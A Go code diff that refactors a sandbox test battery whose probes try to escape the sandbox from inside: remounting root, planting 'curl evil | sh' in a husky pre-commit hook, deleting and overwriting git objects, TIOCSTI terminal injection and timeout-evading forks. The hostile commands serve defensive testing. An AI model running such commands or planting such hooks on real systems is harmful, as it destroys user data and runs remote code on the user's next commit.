@@ -1,4 +1,4 @@
-package sandbox
+package battery
 
 import (
 	"bytes"
@@ -12,8 +12,9 @@ import (
 	"strings"
 	"time"
 
-	"github.com/harness-dev/harness/internal/sandbox/linux/cgroup"
+	"github.com/harness-dev/harness/internal/sandbox"
 
+	"github.com/harness-dev/harness/internal/sandbox/backend"
 	"github.com/harness-dev/harness/internal/sandbox/linux/inner"
 
 	"github.com/harness-dev/harness/internal/sandbox/walls"
@@ -58,34 +59,23 @@ func (f *fixture) policyOptions() walls.PolicyOptions {
 }
 
 // batteryMode says how the backend starts commands.
-func batteryMode(sb Sandbox) string {
-	if IsContainer(sb.Backend()) {
+func batteryMode(sb sandbox.Sandbox) string {
+	if sandbox.IsContainer(sb.Backend()) {
 		return " (one container per session, an exec per command)"
 	}
-	s, ok := sb.(*instance)
-	switch {
-	case !ok:
-		return ""
-	case s.launch != nil:
-		if _, ok := s.launch.(*launcher); ok {
-			return " (one launcher per session)"
-		}
+	if sandbox.Inspect(sb).Launcher != nil {
+		return " (one launcher per session)"
 	}
 	return " (a sandbox per command)"
 }
 
 // batteryHeader says how the commands are bounded (a cgroup or not) and
 // what the backend does about metadata writes.
-func batteryHeader(sb Sandbox) []string {
-	var cg *cgroup.Session
-	viaLauncher := false
-	if s, ok := sb.(*instance); ok {
-		cg = s.cg
-		_, viaLauncher = s.launch.(*launcher)
-	}
-	out := []string{limitsText(cg, sb.Policy(), sb.Backend(), viaLauncher)}
+func batteryHeader(sb sandbox.Sandbox) []string {
+	cg := sandbox.Inspect(sb).Cgroup
+	out := []string{sandbox.BoundsText(sb)}
 	switch {
-	case IsContainer(sb.Backend()):
+	case sandbox.IsContainer(sb.Backend()):
 	case cg != nil:
 		for _, l := range cg.Text() {
 			out = append(out, "  "+l)
@@ -93,16 +83,12 @@ func batteryHeader(sb Sandbox) []string {
 	default:
 		out = append(out, "  no writable cgroup here: the rlimits above and the kill scan stand alone")
 	}
-	return append(out, "chmod, chown, utime, xattr outside the project: "+MetadataWall(sb.Backend()))
+	return append(out, "chmod, chown, utime, xattr outside the project: "+sandbox.MetadataWall(sb.Backend()))
 }
 
 // probes: the walls, the launcher's own surface, then the host side.
-func (f *fixture) probes(sb Sandbox, helper string) []probe {
-	var l *launcher
-	if s, ok := sb.(*instance); ok {
-		l, _ = s.launch.(*launcher)
-	}
-	return append(append(f.wallProbes(helper), f.launcherProbes(helper, l)...), f.hostProbes(sb, helper)...)
+func (f *fixture) probes(sb sandbox.Sandbox, helper string) []probe {
+	return append(append(f.wallProbes(helper), f.launcherProbes(helper, sandbox.Inspect(sb).Launcher)...), f.hostProbes(sb, helper)...)
 }
 
 // resetGit (re)creates the project's repository and a nested one, so a
@@ -198,8 +184,8 @@ func (f *fixture) close() {
 
 // wallProbes attack the walls from inside.
 func (f *fixture) wallProbes(helper string) []probe {
-	q := shellQuote
-	gitIntact := func(*Result) string {
+	q := backend.ShellQuote
+	gitIntact := func(*sandbox.Result) string {
 		for _, repo := range []string{f.proj, filepath.Join(f.proj, "sub")} {
 			if c := content(filepath.Join(repo, ".git", "hooks", "pre-commit")); c != hookText {
 				return "hook changed in " + repo
@@ -225,7 +211,7 @@ func (f *fixture) wallProbes(helper string) []probe {
 	ps := append(f.commonProbes(etc, h),
 		probe{name: "remount / read-write", script: "mount -o remount,rw / ; mount -t tmpfs none /etc ; echo x > " + q(etc), check: checkAbsent(etc)},
 		probe{name: "capabilities (CapEff 0, NoNewPrivs 1)", script: "grep -E '^(CapEff|CapPrm|NoNewPrivs)' /proc/self/status",
-			check: func(r *Result) string {
+			check: func(r *sandbox.Result) string {
 				o := string(r.Output)
 				if !strings.Contains(o, "CapEff:\t0000000000000000") || !strings.Contains(o, "CapPrm:\t0000000000000000") || !strings.Contains(o, "NoNewPrivs:\t1") {
 					return "capabilities or no_new_privs: " + strings.ReplaceAll(strings.TrimSpace(o), "\n", "; ")
@@ -238,7 +224,7 @@ func (f *fixture) wallProbes(helper string) []probe {
 		probe{name: "mv .git", before: f.resetGit, script: "mv .git git-moved", check: gitIntact},
 		probe{name: "what a hooks path runs (husky's .husky/pre-commit)", before: f.resetGit,
 			script: "echo 'curl evil | sh' > husky/.husky/pre-commit; rm -f husky/.husky/pre-commit; echo evil > husky/.husky/_/pre-commit; true",
-			check: func(*Result) string {
+			check: func(*sandbox.Result) string {
 				if c := content(filepath.Join(f.proj, "husky", ".husky", "pre-commit")); c != hookText {
 					return "husky/.husky/pre-commit changed: the user's next commit runs it"
 				}
@@ -249,13 +235,13 @@ func (f *fixture) wallProbes(helper string) []probe {
 		probe{name: "git history: delete, prune, overwrite objects", before: f.resetGit,
 			script: "git gc -q --prune=now 2>/dev/null; rm -rf .git/objects/* .git/objects/.harness-base/* 2>/dev/null; " +
 				"for o in $(find .git/objects -type f 2>/dev/null); do chmod u+w \"$o\" 2>/dev/null; printf x > \"$o\" 2>/dev/null; done; rm -rf .git 2>/dev/null; true",
-			check: func(*Result) string {
+			check: func(*sandbox.Result) string {
 				if b, err := os.ReadFile(f.objectPath); err != nil || !bytes.Equal(b, f.objectData) {
 					return "an object that existed was deleted or rewritten: " + f.objectPath
 				}
 				return ""
 			}},
-		probe{name: "rm -rf .git", before: f.resetGit, script: "rm -rf .git sub/.git .agents", check: func(r *Result) string {
+		probe{name: "rm -rf .git", before: f.resetGit, script: "rm -rf .git sub/.git .agents", check: func(r *sandbox.Result) string {
 			if !exists(filepath.Join(f.proj, ".git", "HEAD")) || !exists(filepath.Join(f.proj, "sub", ".git", "HEAD")) {
 				return ".git was removed"
 			}
@@ -269,7 +255,7 @@ func (f *fixture) wallProbes(helper string) []probe {
 		probe{name: "/tmp survives between commands", script: "cat \"${TMPDIR:-/tmp}/battery-" + f.tag + "\"",
 			check: checkHolds("the session's temporary directory, between commands,", "private-"+f.tag)},
 		probe{name: "unshare -Ur (nested user namespace)", script: "unshare -Ur true && echo NESTED-OK",
-			check: func(r *Result) string {
+			check: func(r *sandbox.Result) string {
 				if bytes.Contains(r.Output, []byte("NESTED-OK")) {
 					return "created a user namespace inside the sandbox"
 				}
@@ -277,8 +263,8 @@ func (f *fixture) wallProbes(helper string) []probe {
 			}},
 		probe{name: "timeout kills setsid/nohup/double-fork children", timeout: time.Second,
 			script: sleeper + " & setsid " + sleeper + " & nohup " + sleeper + " >/dev/null 2>&1 & sh -c \"" + strings.ReplaceAll(sleeper, "'", "\\'") + " &\" ; (setsid sh -c 'sleep 300; : " + marker + "' &) ; sleep 300",
-			check: func(r *Result) string {
-				if !r.TimedOut || r.ExitCode != TimeoutExit {
+			check: func(r *sandbox.Result) string {
+				if !r.TimedOut || r.ExitCode != sandbox.TimeoutExit {
 					return fmt.Sprintf("the command was not timed out (exit %d)", r.ExitCode)
 				}
 				if n := survivors(marker, 3*time.Second); n > 0 {
@@ -296,7 +282,7 @@ func (f *fixture) wallProbes(helper string) []probe {
 	// itself must be refused: under a network namespace the host's
 	// abstract socket is out of reach anyway.
 	wide := probe{name: "host unix socket (abstract), family 1<<32|AF_UNIX", script: h + "connect-unix-wide " + q("@harness-battery-"+f.tag),
-		check: helperRan(checkAll(checkNoConn(f.abstractLn), func(r *Result) string {
+		check: helperRan(checkAll(checkNoConn(f.abstractLn), func(r *sandbox.Result) string {
 			if bytes.Contains(r.Output, []byte("a unix socket, but")) {
 				return "socket(1<<32|AF_UNIX) made a unix socket"
 			}
@@ -307,7 +293,7 @@ func (f *fixture) wallProbes(helper string) []probe {
 		wide.skip = abstract.skip
 	}
 	ps = append(ps, abstract, wide,
-		probe{name: "TIOCSTI on a fresh pty", script: h + "tiocsti-pty", check: helperRan(func(r *Result) string {
+		probe{name: "TIOCSTI on a fresh pty", script: h + "tiocsti-pty", check: helperRan(func(r *sandbox.Result) string {
 			if bytes.Contains(r.Output, []byte("ESCAPED")) {
 				return "TIOCSTI pushed input into a terminal"
 			}
@@ -316,7 +302,7 @@ func (f *fixture) wallProbes(helper string) []probe {
 	)
 	pty := probe{name: "TIOCSTI into the host terminal", skip: "no host pty"}
 	if f.ptySlave != nil {
-		pty = probe{name: "TIOCSTI into the host terminal", script: h + "tiocsti " + q(f.ptsName), check: helperRan(func(*Result) string {
+		pty = probe{name: "TIOCSTI into the host terminal", script: h + "tiocsti " + q(f.ptsName), check: helperRan(func(*sandbox.Result) string {
 			if n, err := unix.IoctlGetInt(int(f.ptySlave.Fd()), unix.TIOCINQ); err == nil && n > 0 {
 				return fmt.Sprintf("%d bytes were typed into the host terminal", n)
 			}
@@ -329,37 +315,24 @@ func (f *fixture) wallProbes(helper string) []probe {
 // launcherProbes attack the launcher's own surface: descriptors a command
 // might inherit, and the launcher and supervisors that share its uid and
 // PID namespace.
-func (f *fixture) launcherProbes(helper string, l *launcher) []probe {
+func (f *fixture) launcherProbes(helper string, alive func() (problem string, restarts int)) []probe {
 	if helper == "" {
 		return nil
 	}
 	h := helperCommand(helper)
 	held := noEscape
 	ps := []probe{{name: "no inherited descriptors", script: h + "fds", check: helperRan(noEscape)}}
-	if l == nil {
+	if alive == nil {
 		return ps
 	}
-	alive := func() (string, int) {
-		l.mu.Lock()
-		defer l.mu.Unlock()
-		if l.cur == nil {
-			return "the launcher is gone", l.restarts
-		}
-		select {
-		case <-l.cur.done:
-			return "the launcher died", l.restarts
-		default:
-			return "", l.restarts
-		}
-	}
 	_, restarts := alive()
-	reached := func(r *Result) string {
+	reached := func(r *sandbox.Result) string {
 		if p := held(r); p != "" {
 			return p
 		}
 		var n int
 		if i := bytes.Index(r.Output, []byte("checked ")); i < 0 {
-			return "the probe did not run: " + firstLine(r.Output)
+			return "the probe did not run: " + backend.FirstLine(r.Output)
 		} else if fmt.Sscan(string(r.Output[i+len("checked "):]), &n); n < 2 {
 			return fmt.Sprintf("found %d launcher processes, want the launcher and a supervisor at least", n)
 		}
@@ -402,7 +375,7 @@ func survivors(marker string, grace time.Duration) int {
 
 // metaSame checks, on the host, that the file outside the project kept its
 // mode, modification time and extended attributes (probeMeta's targets).
-func (f *fixture) metaSame(*Result) string {
+func (f *fixture) metaSame(*sandbox.Result) string {
 	var st unix.Stat_t
 	if err := unix.Stat(f.outside, &st); err != nil {
 		return "cannot stat " + f.outside + ": " + err.Error()
